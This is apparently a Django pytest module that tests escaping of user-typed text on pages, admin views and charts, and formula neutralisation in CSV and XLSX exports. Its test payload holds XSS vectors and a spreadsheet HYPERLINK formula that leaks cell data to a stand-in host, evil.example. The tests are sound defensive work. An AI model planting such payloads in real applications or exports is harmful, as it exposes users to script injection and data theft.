"""What users type is shown as text: a script planted in every free-text field of every model is
escaped on every page, and a cell that a spreadsheet would read as a formula is neutralised in every
export. (The PDF reports print planted markup as text and fetch nothing: test_report_security.py.)

The payload goes straight into the database (as an import, an old version or the admin might leave
it), past the forms' validation, into every CharField and TextField of the domain apps except the
codes and references that URLs are made of.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.apps import apps
from django.conf import settings
from django.contrib import admin
from django.db import models
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.security.test_url_permissions import CASES, ROLES, things  # noqa: F401 - the fixture

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("xss")</script>'
# Starts like a formula, for the spreadsheets; carries the script, for the pages.
PAYLOAD = f'=HYPERLINK("http://evil.example/?leak="&A1,"open") {SCRIPT}"\'><img src=x onerror=alert(1)>'
ESCAPED = "&lt;script&gt;alert("
KEYS = {"code", "reference", "key", "slug", "username", "password", "language", "function", "file"}


def free_text_fields() -> list[tuple[type[models.Model], list[str]]]:
    planted = []
    for app in settings.DOMAIN_APPS:
        for model in apps.get_app_config(app).get_models():
            names = [
                field.name
                for field in model._meta.get_fields()
                if isinstance(field, models.CharField | models.TextField)
                and not isinstance(field, models.FileField | models.EmailField | models.URLField)
                and not field.choices
                and field.name not in KEYS
                and not field.unique
            ]
            if names:
                planted.append((model, names))
    return planted


def plant() -> int:
    """Every free-text field of every row gets the payload, cut to the field's length."""
    fields = 0
    for model, names in free_text_fields():
        values = {}
        for name in names:
            field = model._meta.get_field(name)
            values[name] = PAYLOAD[: field.max_length] if field.max_length else PAYLOAD
        model._base_manager.update(**values)
        fields += len(names)
    return fields


GET_PAGES = [case for case in CASES if case.get.split()[ROLES.index("admin")] == "200"]


def test_a_script_typed_into_any_field_is_shown_escaped_on_every_page(world, things):  # noqa: F811
    assert plant() > 40
    client = Client()
    client.force_login(world.admin)
    shown = 0
    for case in GET_PAGES:
        url = reverse(case.name, kwargs=case.kwargs(things))
        response = client.get(url)
        assert response.status_code == 200, url
        if "html" not in response["Content-Type"]:
            continue  # a calendar file, read by calendar programs, not browsers
        page = response.content.decode()
        assert SCRIPT not in page, f"{url} shows the planted script as markup"
        assert "<img src=x" not in page, f"{url} shows the planted image as markup"
        shown += ESCAPED in page
    # The test can fail: most pages do print what was planted, escaped.
    assert shown >= len(GET_PAGES) // 2


def test_the_administration_site_escapes_it_too(world, things):  # noqa: F811
    plant()
    client = Client()
    client.force_login(world.admin)
    checked = 0
    for model, _names in free_text_fields():
        first = model._base_manager.order_by("pk").first()
        opts = model._meta
        if first is None or model not in admin.site._registry:
            continue
        for url in (
            reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist"),
            reverse(f"admin:{opts.app_label}_{opts.model_name}_change", args=[first.pk]),
        ):
            response = client.get(url)
            assert response.status_code == 200, url
            assert SCRIPT not in response.content.decode(), url
            checked += 1
    assert checked >= 20


EXPORTS = [
    "portfolio:project_list",
    "governance:decision_list",
    "governance:action_tracker",
    "risks:register",
]


@pytest.mark.parametrize("name", EXPORTS)
def test_exports_neutralise_cells_that_would_start_a_formula(name, world, things):  # noqa: F811
    plant()
    client = Client()
    client.force_login(world.admin)
    url = reverse(name)

    text = client.get(url, {"export": "csv"}).content.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    assert [cell for cell in cells if cell.startswith("'=HYPERLINK")], f"{url}: no planted cell came out"
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@"}]

    workbook = load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).content))
    values = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in values if cell.data_type == "f"], "a formula in the workbook"
    texts = [cell.value for cell in values if isinstance(cell.value, str)]
    assert [text for text in texts if text.startswith("'=HYPERLINK")]
    assert not [text for text in texts if text[:1] in {"=", "+", "@"}]


# The charts that print names users typed (the heatmap and the exposure chart print counts only).
CHART_PAGES = ["reporting:dashboard", "risks:risk_detail"]


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


@pytest.mark.parametrize("name", CHART_PAGES)
def test_charts_print_typed_names_as_text(name, world, things):  # noqa: F811
    """Plotly reads a little HTML in labels and hover texts: a typed name reaches it escaped."""
    plant()
    client = Client()
    client.force_login(world.admin)
    case = next(case for case in CASES if case.name == name and case.variant in {"", "open"})
    page = client.get(reverse(name, kwargs=case.kwargs(things))).content.decode()

    figures = [
        json.loads(block) for block in re.findall(r'type="application/json">(.*?)</script>', page, re.S)
    ]
    texts = [text for figure in figures for text in strings(figure)]
    assert figures and any("&lt;script&gt;" in text for text in texts), "the planted names are in the charts"
    assert not [text for text in texts if "<script" in text or "<img" in text]
